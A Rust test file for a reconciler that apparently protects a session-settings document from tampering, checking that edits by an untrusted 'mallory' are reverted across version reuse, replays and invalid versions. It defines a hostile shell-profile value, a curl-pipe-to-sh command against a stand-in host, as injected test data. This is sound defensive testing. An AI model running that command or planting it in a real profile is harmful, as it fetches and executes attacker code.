//! Ways in which an untrusted hand's content could become accepted, or a trusted one's get lost.

use runas_reactor::domain::document::Body;
use runas_reactor::domain::edit::Action;
use runas_reactor::domain::principal::Attribution::{BreakGlass, Ours, Trusted, Unattributed, Untrusted};
use runas_reactor::domain::record::{Accounted, Hold, Record, Standing};
use serde_json::json;

use super::cases::*;

const HOSTILE: &str = "curl -s https://evil.example/x | sh";

fn profile(linux: &str) -> serde_json::Value {
    json!({ "linux": linux, "windows": "" })
}

#[test]
fn where_nothing_was_accepted_a_trusted_version_brings_only_its_own_change() {
    // A new account: mallory creates the document, a pipeline reads it, changes one field and writes it back.
    let mut case = case();
    case.observation = document(
        &[
            (1, 90, body(&json!({ "shellProfile": profile(HOSTILE) }))),
            (2, 95, body(&json!({ "shellProfile": profile(HOSTILE), "cloudWatchLogGroupName": "logs" }))),
        ],
        1,
    );
    case.edits = vec![edit("a", 90, Action::Created, Untrusted), wrote("b", 95, 2, Trusted)];
    let (decision, _) = settled(&case);
    assert_eq!(written(&decision).input("cloudWatchLogGroupName"), Some(&json!("logs")));
    assert_eq!(written(&decision).input("shellProfile"), None);
}

#[test]
fn two_calls_claim_one_version_number_and_the_nearer_one_made_it() {
    // A pipeline created version 1; mallory deleted the document and created another version 1. Both events are here.
    let mut case = case();
    case.record = Record { accounted: None, accepted: Some(content(&right())), ..Record::default() };
    case.observation = document(&[(1, 95, body(&right_but("shellProfile", profile(HOSTILE))))], 1);
    case.edits = vec![
        edit("a", 80, Action::Created, Trusted),
        edit("b", 93, Action::Deleted, Untrusted),
        edit("c", 95, Action::Created, Untrusted),
    ];
    let (decision, _) = settled(&case);
    assert_eq!(written(&decision).input("shellProfile"), None);
}

#[test]
fn an_old_event_of_a_trusted_hand_vouches_for_no_version_of_today() {
    // The archive is replayed, or the dead-letter queue: two days ago the pipeline wrote a version 5 as well.
    let mut case = case();
    case.record = in_sync(4, 50);
    case.observation =
        document(&[(4, 50, body(&right())), (5, 95, body(&right_but("shellProfile", profile(HOSTILE))))], 5);
    for days in [2, 7, 14] {
        for attribution in [Trusted, BreakGlass] {
            case.edits = vec![wrote("a", -days * 86_400, 5, attribution)];
            let (decision, _) = settled(&case);
            assert_eq!(written(&decision).input("shellProfile"), None, "{attribution:?}, {days} days ago");
        }
    }
}

#[test]
fn an_invalid_version_by_mallory_hides_nothing_from_the_comparison() {
    // What a pipeline carries over from a version that we cannot read as a document is not the pipeline's.
    let invalid = || Body::Invalid { why: "`sessionType` is not a kind of session".to_owned() };
    let mut inherited = right_but("shellProfile", profile(HOSTILE));
    inherited["cloudWatchLogGroupName"] = json!("logs-2027");
    let mut one_look = case();
    one_look.record = in_sync(4, 50);
    one_look.observation = document(&[(4, 50, body(&right())), (5, 90, invalid()), (6, 95, body(&inherited))], 6);
    one_look.edits = vec![wrote("a", 90, 5, Untrusted), wrote("b", 95, 6, Trusted)];
    assert_eq!(written(&settled(&one_look).0).input("shellProfile"), None);
    // The same in two looks, where the first one could not write.
    let mut two_looks = case();
    two_looks.record = in_sync(4, 50);
    two_looks.record.accounted =
        Some(Accounted { version: 5, created: Some(at(90)), landed: None, base: None, body: Some(invalid()) });
    two_looks.record.recent = vec![judged(5, 90, Untrusted, &right(), &right())];
    two_looks.observation = document(&[(5, 90, invalid()), (6, 95, body(&inherited))], 6);
    two_looks.edits = vec![wrote("b", 95, 6, Trusted)];
    assert_eq!(written(&settled(&two_looks).0).input("shellProfile"), None);
    // A pipeline that repairs its own slip is believed.
    let mut own_slip = one_look.clone();
    own_slip.edits = vec![wrote("a", 90, 5, Trusted), wrote("b", 95, 6, Trusted)];
    let (_, settlement) = settled(&own_slip);
    let accepted = settlement.commit.unwrap().record.accepted.unwrap();
    assert_eq!(accepted.input("cloudWatchLogGroupName"), Some(&json!("logs-2027")));
}

#[test]
fn first_sight_beside_a_deleted_version_adopts_the_one_before() {
    // Mallory wrote version 5 just now; version 4 is gone. What the pipeline had in version 3 is not lost.
    let mut case = case();
    case.observation = document(
        &[(3, 10, body(&right_but("s3BucketName", "audit"))), (5, 95, body(&right_but("s3BucketName", "evil")))],
        5,
    );
    case.edits = vec![wrote("a", 95, 5, Untrusted)];
    let (decision, _) = settled(&case);
    assert_eq!(written(&decision).input("s3BucketName"), Some(&json!("audit")));
}

#[test]
fn first_sight_is_not_misled_by_an_event_about_another_document() {
    // Somebody created version 1 of an earlier document; what is there now has nothing to do with it.
    let versions: Vec<_> =
        (1..=12).map(|n| (n, i64::try_from(n).unwrap(), body(&right_but("s3BucketName", "audit")))).collect();
    let mut case = case();
    case.observation = document(&versions, 1);
    case.edits = vec![edit("a", -3 * 86_400, Action::Created, Untrusted)];
    let (decision, settlement) = settled(&case);
    let accepted = settlement.commit.unwrap().record.accepted.unwrap();
    assert_eq!(accepted.input("s3BucketName"), Some(&json!("audit")), "{:?}", decision.reasons);
}

#[test]
fn a_late_author_does_not_bring_back_what_was_changed_since() {
    let (one, two) = (right_but("cloudWatchLogGroupName", "one"), right_but("cloudWatchLogGroupName", "two"));
    // Version 5 had no author; version 7, by the pipeline, changed the same field again.
    let mut case = case();
    case.record = in_sync(8, 70);
    case.record.accepted = Some(content(&two));
    case.record.recent = vec![judged(7, 60, Trusted, &right(), &two), judged(5, 40, Unattributed, &right(), &one)];
    case.observation = document(&[(8, 70, body(&two))], 8);
    case.edits = vec![wrote("a", 40, 5, Trusted)];
    let (decision, settlement) = settled(&case);
    assert_eq!(decision.write, None, "{:?}", decision.reasons);
    assert_eq!(
        settlement.commit.unwrap().record.accepted.unwrap().input("cloudWatchLogGroupName"),
        Some(&json!("two"))
    );
}

#[test]
fn late_authors_in_any_order_give_the_same_document() {
    let (one, two) = (right_but("cloudWatchLogGroupName", "one"), right_but("cloudWatchLogGroupName", "two"));
    let accepted = |order: [(&str, i64, u64); 2]| {
        let mut case = case();
        case.record = in_sync(8, 70);
        case.record.recent =
            vec![judged(7, 60, Unattributed, &right(), &two), judged(5, 40, Unattributed, &right(), &one)];
        case.observation = document(&[(8, 70, body(&right()))], 8);
        for (id, when, version) in order {
            case.edits = vec![wrote(id, when, version, Trusted)];
            let (_, settlement) = settled(&case);
            case.record = settlement.commit.unwrap().record;
            let latest = seen(&mut case).latest.number + 1;
            let now = case.record.accepted.clone().unwrap();
            case.observation = document(&[(latest, 100, Body::Valid(now))], latest);
        }
        case.record.accepted.unwrap()
    };
    let (a, b) = (accepted([("a", 40, 5), ("b", 60, 7)]), accepted([("b", 60, 7), ("a", 40, 5)]));
    assert_eq!(a.input("cloudWatchLogGroupName"), Some(&json!("two")));
    assert_eq!(a, b);
}

#[test]
fn a_late_name_of_an_untrusted_hand_ends_a_hold() {
    let mut case = case();
    case.record = in_sync(6, 90);
    case.record.standing = Standing::Held;
    case.record.hold = Some(Hold { until: at(3_600), attribution: BreakGlass, why: "break-glass by x".to_owned() });
    let wrong = right_but("runAsEnabled", false);
    case.record.accounted =
        Some(Accounted { version: 6, created: Some(at(90)), landed: None, base: None, body: Some(body(&wrong)) });
    case.record.recent =
        vec![judged(6, 90, Unattributed, &right(), &wrong), judged(5, 10, BreakGlass, &right(), &wrong)];
    case.observation = document(&[(6, 90, body(&wrong))], 6);
    case.edits = vec![wrote("a", 90, 6, Untrusted)];
    let (decision, _) = settled(&case);
    assert!(decision.write.is_some(), "{:?}", decision.reasons);
}

#[test]
fn only_our_own_remark_is_no_part_of_the_description() {
    let with = |description: &str| {
        whole(&json!({ "schemaVersion": "1.0", "sessionType": "Standard_Stream", "description": description,
            "inputs": right() }))
        .content()
        .unwrap()
        .clone()
    };
    let plain = with("Settings");
    assert!(plain.same_as(&plain.reworded(77)));
    assert!(!plain.same_as(&with("Settings [runas-reactor was here, call 555-1234 to get it back]")));
}

#[test]
fn an_input_cannot_pass_for_another_field() {
    let with = |description: &str, inputs: serde_json::Value| {
        whole(&json!({ "schemaVersion": "1.0", "sessionType": "Standard_Stream", "description": description,
            "inputs": inputs }))
        .content()
        .unwrap()
        .clone()
    };
    let before = with("Settings", json!({}));
    let after = with("call 555-1234", json!({ "/description": "Settings" }));
    assert!(!before.same_as(&after));
    let change = before.change_to(&after);
    assert_eq!(before.with_change(&change), after);
    for odd in ["/inputs/x", "a/b", "~1", "/~0/"] {
        let mut there = json!({ "schemaVersion": "1.0", "sessionType": "Port", "inputs": { odd: 1 } });
        there[odd] = json!(2);
        let there = whole(&there).content().unwrap().clone();
        assert_eq!(before.with_change(&before.change_to(&there)), there, "{odd}");
    }
}

#[test]
fn another_document_of_the_same_number_is_not_the_one_that_we_wrote() {
    // Our version 1 has not been seen since it was written; mallory deleted it and created another version 1.
    let mut case = case();
    case.record = in_sync(1, 0);
    case.record.accounted = Some(Accounted { version: 1, created: None, landed: None, base: None, body: None });
    case.observation = document(&[(1, 99, body(&right_but("s3BucketName", "evil")))], 1);
    let (decision, settlement) = settled(&case);
    assert_eq!(written(&decision).input("s3BucketName"), None);
    assert!(kinds(&settlement).contains(&"edit_reverted".to_owned()), "{:?}", kinds(&settlement));
}

#[test]
fn a_trusted_edit_that_could_not_be_read_at_first_is_accepted_later() {
    let mut case = case();
    case.record = in_sync(4, 50);
    case.observation = unknown();
    case.edits = vec![wrote("a", 97, 5, Trusted)];
    let (_, settlement) = settled(&case);
    let (work, _) = settlement.next.unwrap();
    // Readable again: the successor of the message looks.
    let mut later = super::cases::case();
    later.record = settlement.commit.unwrap().record;
    later.now = at(110);
    later.hop = work.hop;
    later.edits = work.edits.into_iter().map(|edit| heard_again(edit, Trusted)).collect();
    later.observation =
        document(&[(4, 50, body(&right())), (5, 97, body(&right_but("cloudWatchLogGroupName", "new")))], 5);
    let (_, settlement) = settled(&later);
    let accepted = settlement.commit.unwrap().record.accepted.unwrap();
    assert_eq!(accepted.input("cloudWatchLogGroupName"), Some(&json!("new")));
}

#[test]
fn an_edit_is_not_told_again_when_the_target_becomes_readable() {
    let mut case = case();
    case.record = in_sync(4, 50);
    case.observation = unknown();
    case.edits = vec![wrote("a", 97, 5, Untrusted)];
    let (_, settlement) = settled(&case);
    let (work, _) = settlement.next.unwrap();
    let mut later = super::cases::case();
    later.record = settlement.commit.unwrap().record;
    later.now = at(110);
    later.hop = work.hop;
    later.edits = work.edits.into_iter().map(|edit| heard_again(edit, Untrusted)).collect();
    later.observation =
        document(&[(4, 50, body(&right())), (5, 97, body(&right_but("cloudWatchLogGroupName", "evil")))], 5);
    let (decision, settlement) = settled(&later);
    assert!(decision.write.is_some());
    let told: Vec<String> = kinds(&settlement).into_iter().filter(|kind| kind.starts_with("edit_")).collect();
    // What was changed, and that it was reverted, is told under the name that was told before.
    assert!(alerts(&settlement).iter().all(|alert| !alert.text.contains("author unknown")), "{told:?}");
}

#[test]
fn what_is_exactly_ours_is_ours_whoever_wrote_it() {
    let mut case = case();
    case.record = in_sync(4, 50);
    case.observation = document(&[(4, 50, body(&right())), (5, 95, body(&right()))], 5);
    case.edits = vec![wrote("a", 95, 5, Untrusted)];
    let (decision, settlement) = settled(&case);
    assert_eq!(decision.write, None);
    assert!(settlement.commit.unwrap().record.recent.iter().all(|judged| judged.attribution == Ours));
}

#[test]
fn another_spelling_of_an_owned_field_does_not_survive() {
    // The agent reads JSON as Go does: `runasdefaultuser` sets the same field, and the last one wins.
    let mut case = case();
    case.observation = document(&[(1, 0, body(&right_but("runasdefaultuser", "root")))], 1);
    let (decision, _) = settled(&case);
    assert_eq!(written(&decision).input("runasdefaultuser"), None);
    assert_eq!(written(&decision).input("runAsDefaultUser"), Some(&json!("ops")));
}
